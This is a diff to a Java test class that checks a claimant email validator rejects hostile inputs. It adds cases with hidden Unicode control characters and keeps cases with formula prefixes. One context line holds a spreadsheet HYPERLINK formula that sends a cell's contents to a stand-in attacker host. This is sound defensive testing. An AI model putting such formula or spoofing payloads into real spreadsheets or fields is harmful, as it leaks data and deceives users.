@@ -74,6 +74,10 @@ class ClaimFieldTest {
                 "=HYPERLINK(\"http://ev.il/?\"&J2,\"x@y.z\")", "maria@exa_mple.org"}) {
             assertThat(broken(ClaimField.CLAIMANT_EMAIL, bad).rule()).as(bad).contains("email address");
         }
+        for (String hidden : new String[] {"ma\u202Eria@example.org", "ma\u2028ria@example.org",
+                "ma\u0085ria@example.org", "ma\uD835ria@example.org"}) {
+            assertThat(broken(ClaimField.CLAIMANT_EMAIL, hidden).rule()).as(hidden).contains("email address");
+        }
         for (String formula : new String[] {"=1+maria@example.org", "+maria@example.org", "-maria@example.org"}) {
             assertThat(broken(ClaimField.CLAIMANT_EMAIL, formula).rule()).as(formula).contains("formula");
         }
